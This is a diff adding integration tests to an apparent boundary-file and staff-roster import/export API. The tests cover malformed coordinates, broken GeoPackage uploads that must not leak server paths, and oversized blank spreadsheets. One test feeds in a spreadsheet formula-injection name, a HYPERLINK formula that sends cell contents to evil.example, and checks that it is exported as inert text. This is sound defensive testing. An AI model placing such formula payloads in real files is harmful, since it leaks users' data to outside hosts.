@@ -126,3 +126,80 @@ async def test_roster_downloads_as_xlsx(client, tmp_path):
     rows = list(load_workbook(tmp_path / "r.xlsx").worksheets[0].iter_rows(values_only=True))
     assert rows[0] == ("node_code", "role", "name", "phone", "start_date") and rows[1][0] == "610827001-U1-C1-G1"
     assert (await client.get("/api/v1/roster/export?code=NOPE")).status_code == 404
+
+
+def _geojson_4546(path, features):
+    """A GeoJSON file whose coordinates are CGCS2000 3-degree GK CM 111E metres, as delivered."""
+    import json
+
+    path.write_text(json.dumps({
+        "type": "FeatureCollection",
+        "crs": {"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::4546"}},
+        "features": [{"type": "Feature", "properties": props, "geometry": {
+            "type": "Polygon", "coordinates": [ring]}} for props, ring in features],
+    }))  # fmt: skip
+    return path
+
+
+async def test_coordinates_of_1e30_or_a_floor_of_1e300_are_the_files_4xx_not_a_500(client, db, tmp_path):
+    before = await checksum(db)
+    x, y = 500_000.0, 4_170_000.0  # metres inside zone CM 111E
+    square = [[x, y], [x + 100, y], [x + 100, y + 100], [x, y + 100], [x, y]]
+    far = [[1e30, 1e30], [1e30 + 1, 1e30], [1e30, 1e30 + 1], [1e30, 1e30]]
+    cases = {
+        "far.geojson": [({"code": "999000", "level": "county"}, square),
+                        ({"code": "999001", "level": "township", "parent_code": "999000"}, far)],
+        "floor.geojson": [({"code": "999000", "level": "county"}, square),
+                          ({"code": "F9", "level": "floor", "parent_code": "999000", "floor_from": 1e300,
+                            "floor_to": 2}, square)],
+    }  # fmt: skip
+    for name, features in cases.items():
+        res = await _post(client, _geojson_4546(tmp_path / name, features))
+        assert res.status_code == 422, res.text
+        error = res.json()["error"]
+        assert error["code"] == "bad_boundary_file" and name in error["message"], error
+        assert error["details"]["row"] == 2, error
+        assert str(tmp_path) not in res.text
+    assert await checksum(db) == before
+
+
+async def test_a_broken_geopackage_is_named_as_uploaded_never_by_the_servers_path(client, tmp_path):
+    broken = tmp_path / "村界-2026.gpkg"
+    for content in (b"SQLite format 3\x00" + b"\x00" * 2000, b"not a geopackage at all"):
+        broken.write_bytes(content)
+        res = await _post(client, broken)
+        assert res.status_code == 422, res.text
+        assert "村界-2026.gpkg" in res.json()["error"]["message"]
+        for leak in ("wuzhang-import-", "upload.gpkg", "/tmp"):
+            assert leak not in res.text, res.text
+
+
+async def test_a_formula_name_uploaded_comes_back_as_text_in_the_export_and_the_error_workbook(client, tmp_path):
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://evil.example/"&A1,"click")'
+    path = _roster_csv(tmp_path / "r.csv", [
+        ["610827001-U1", "deputy", formula, "13800000012", "2026-02-01"],
+        ["610827001-U1", "deputy", formula, "12345", "2026-02-01"],
+    ])  # fmt: skip
+    with path.open("rb") as fh:
+        res = await client.post("/api/v1/roster/imports", files={"file": ("r.csv", fh)}, data={"errors": "xlsx"})
+    assert res.status_code == 200 and res.headers["x-roster-errors"] == "1"
+    (tmp_path / "e.xlsx").write_bytes(res.content)
+    res = await client.get("/api/v1/roster/export?code=610827001-U1")
+    assert res.status_code == 200
+    (tmp_path / "x.xlsx").write_bytes(res.content)
+    for book in ("e.xlsx", "x.xlsx"):
+        cells = [c for row in load_workbook(tmp_path / book).worksheets[0].iter_rows() for c in row]
+        named = [c for c in cells if c.value == formula]
+        assert named and all(c.data_type == "s" and c.quotePrefix for c in named), book
+        assert not any(c.data_type == "f" for c in cells), book
+
+
+async def test_a_roster_of_two_million_blank_rows_answers_at_once(client, tmp_path):
+    from tests.integration.test_roster_import import _rows_xml, _xlsx_by_hand
+
+    path = _xlsx_by_hand(tmp_path / "blank.xlsx", _rows_xml(2_000_000, lambda r: b""))
+    with path.open("rb") as fh:
+        res = await client.post("/api/v1/roster/imports", files={"file": ("名册.xlsx", fh)})
+    assert res.status_code == 200 and res.json()["rows"] == 0 and res.json()["source"] == "名册.xlsx"
